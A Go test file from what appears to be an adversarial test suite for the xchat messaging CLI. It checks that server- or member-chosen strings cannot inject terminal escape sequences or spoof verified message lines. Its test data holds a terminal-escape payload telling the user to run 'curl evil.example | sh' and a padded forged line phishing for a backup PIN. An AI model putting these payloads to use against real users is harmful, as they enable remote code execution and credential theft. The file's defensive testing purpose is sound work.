package attacks

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"strings"

	"github.com/xchat-go/xchat/api"
	"github.com/xchat-go/xchat/internal/cli"
	"github.com/xchat-go/xchat/internal/hostile"
	"github.com/xchat-go/xchat/session"
	tevent "github.com/xchat-go/xchat/thriftgen/event"
)

// Attacks on the xchat command line: strings a hostile server or member
// chooses that reach the terminal unneutralised.

var cliAttacks = []attack{
	{"cli-dm-send-id-escapes-terminal", attackCLIDMSendID},
	{"cli-reaction-target-forges-verified-line", attackCLIReactionTarget},
	{"cli-edit-target-forges-verified-line", attackCLIEditTarget},
}

// cliUser is an account used through the xchat command line, its home a
// fresh directory, its API the hostile proxy.
type cliUser struct {
	w         *world
	id, token string
	home      string
}

func (w *world) newCLIUser(name string) *cliUser {
	w.t.Helper()
	id, token := w.provision(name)
	return &cliUser{w: w, id: id, token: token, home: w.t.TempDir()}
}

// run runs xchat with args and returns its exit status, stdout and stderr.
func (c *cliUser) run(args ...string) (int, string, string) {
	var out, errb bytes.Buffer
	vars := map[string]string{
		cli.EnvHome: c.home, cli.EnvAPI: c.w.evil.URL, cli.EnvToken: c.token,
		cli.EnvPassphrase: "correct horse battery staple", cli.EnvNoPrompt: "1",
	}
	env := &cli.Env{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb,
		Getenv: func(k string) string { return vars[k] }}
	ctx, cancel := context.WithCancel(c.w.ctx)
	defer cancel()
	st := cli.Run(ctx, args, env)
	return st, out.String(), errb.String()
}

// setUp creates and registers the account.
func (c *cliUser) setUp() error {
	for _, args := range [][]string{{"init", "--user-id", c.id}, {"keys", "register"}} {
		if st, _, stderr := c.run(args...); st != 0 {
			return errorf("setup: xchat %s: %s", strings.Join(args, " "), stderr)
		}
	}
	return nil
}

// terminalSafe fails when out carries a control character a terminal acts
// on (escape sequences, carriage returns, backspaces) or a line showing
// more than one verdict mark (the CLI's own comes once, at its start).
func terminalSafe(out string) error {
	for _, line := range strings.Split(out, "\n") {
		for _, r := range line {
			if r < 0x20 && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 {
				return errorf("output line %q carries control character %U", line, r)
			}
		}
		marks := 0
		for _, r := range line {
			if strings.ContainsRune("✓✗\u2714\u2718\u221a\U0001F5F8", r) {
				marks++
			}
		}
		if marks > 1 {
			return errorf("output line %q shows %d verdict marks", line, marks)
		}
	}
	return nil
}

// attackCLIDMSendID: 'xchat dm send' prints the dm_event_id the server
// answers. The server answers one carrying terminal escape sequences (here
// a screen clear and a title change), which reach the user's terminal.
func attackCLIDMSendID(w *world) (string, error) {
	bob := w.newCLIUser("bob")
	alice := w.newUser("alice", false)
	evil := "\x1b]0;owned\x07\x1b[2J\x1b[Hxchat: error: your token expired, run: curl evil.example | sh"
	w.proxy.Add(hostile.JSON("dm-id", http.MethodPost, `/2/dm_conversations/with/[0-9]+/messages`,
		func(_ *http.Request, v *api.DmCreateResponse) error {
			if v.Data != nil {
				v.Data.DmEventID = evil
			}
			return nil
		}))
	st, stdout, stderr := bob.run("dm", "send", "--to", alice.id, "hello")
	if err := terminalSafe(stdout + stderr); err != nil {
		return "", err
	}
	return fmt.Sprintf("dm send exit %d, nothing of the server's escapes printed", st), nil
}

// cliMemberTarget sets up the one-to-one conversation of alice (a hostile
// member) and bob (the CLI user) with one message of alice's, then lets
// alice send one event of kind (react or edit) whose signed target
// sequence id is target, and returns what 'xchat read' prints for bob.
func cliMemberTarget(w *world, edit bool, target string) (string, error) {
	bob := w.newCLIUser("bob")
	if err := bob.setUp(); err != nil {
		return "", err
	}
	alice := w.newUser("alice", false)
	first := alice.send(bob.id, "hi bob")[0]
	cid := first.ConversationID
	o := session.Outgoing{React: first.SequenceID, Emoji: "👍"}
	if edit {
		o = session.Outgoing{Edit: first.SequenceID, Text: "hi again"}
	}
	ev, err := alice.e.Send(w.ctx, cid, o)
	if err != nil {
		return "", errorf("setup: alice's event: %v", err)
	}
	key := alice.convKey(cid, first.KeyVersion)
	var ferr error
	w.tamper("member-target", ev.MessageID, func(me *tevent.MessageEvent) {
		h, err := hostile.OpenContents(me, key)
		if err != nil {
			ferr = err
			return
		}
		c := h.Contents
		switch {
		case c.ReactionAdd != nil:
			c.ReactionAdd.MessageSequenceID = &target
		case c.MessageEdit != nil:
			c.MessageEdit.MessageSequenceID = &target
		}
		if err := hostile.SealContents(me, key, h); err != nil {
			ferr = err
			return
		}
		ferr = alice.forger().Resign(me)
	})
	st, stdout, stderr := bob.run("read", "--conversation", cid)
	if ferr != nil {
		return "", errorf("setup: re-signing alice's event: %v", ferr)
	}
	if st != 0 {
		return "", errorf("setup: xchat read: exit %d: %s", st, stderr)
	}
	return stdout, nil
}

// forgedLine is a target sequence id that, printed as it is, ends the
// member's line and draws another sender's verified message after it.
const forgedLine = "1\u00a0" + "\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003\u2003" +
	"#2 2026-12-07 10:00:00 ✓ 1 (@XSupport)  your account is locked: send your backup PIN to unlock it"

// attackCLIReactionTarget: a reaction's target sequence id is a string
// the reacting member signs, never checked to be a sequence id. 'xchat
// read' prints it verbatim in the member's verified line ("reacted 👍 to
// #…"), where the verdict marks that the CLI replaces in every other
// member-chosen text pass: padded to wrap, the line shows a second ✓ line
// from a sender the member chooses.
func attackCLIReactionTarget(w *world) (string, error) {
	out, err := cliMemberTarget(w, false, forgedLine)
	if err != nil {
		return "", err
	}
	if err := terminalSafe(out); err != nil {
		return "", err
	}
	return "the reaction's target is shown neutralised", nil
}

// attackCLIEditTarget is attackCLIReactionTarget for an edit's target
// ("edited #…: text").
func attackCLIEditTarget(w *world) (string, error) {
	out, err := cliMemberTarget(w, true, forgedLine)
	if err != nil {
		return "", err
	}
	if err := terminalSafe(out); err != nil {
		return "", err
	}
	return "the edit's target is shown neutralised", nil
}
